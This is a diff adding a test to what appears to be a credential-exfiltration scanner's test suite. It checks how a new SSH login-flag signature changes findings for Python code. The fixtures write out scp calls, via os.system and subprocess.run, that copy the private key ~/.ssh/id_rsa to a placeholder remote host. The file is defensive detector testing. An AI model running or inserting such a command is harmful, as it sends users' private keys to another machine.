@@ -68,3 +68,15 @@ describe("sinks.yaml js.sendMethods", () => {
     expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 1"]);
   });
 });
+
+describe("commands.yaml sshLoginFlags (Python reading)", () => {
+  const sigs = loadSignatures([extraDir({ "commands.yaml": "sshLoginFlags: [-Z]\n" })]);
+  it("the word after a new login flag of an sshLogin program logs in: it is not sent (command line and argv list)", async () => {
+    const line = 'import os\nos.system("scp -Z ~/.ssh/id_rsa notes.txt user@h.example.invalid:/tmp/")\n';
+    const argv = 'import os, subprocess\nkey = os.path.expanduser("~/.ssh/id_rsa")\nsubprocess.run(["scp", "-Z", key, "notes.txt", "user@h.example.invalid:/tmp/"])\n';
+    expect(await pyFindings(line, base)).toEqual(["credential-exfiltration critical 2"]);
+    expect(await pyFindings(line, sigs)).toEqual([]);
+    expect(await pyFindings(argv, base)).toEqual(["credential-exfiltration critical 3"]);
+    expect(await pyFindings(argv, sigs)).toEqual([]);
+  });
+});
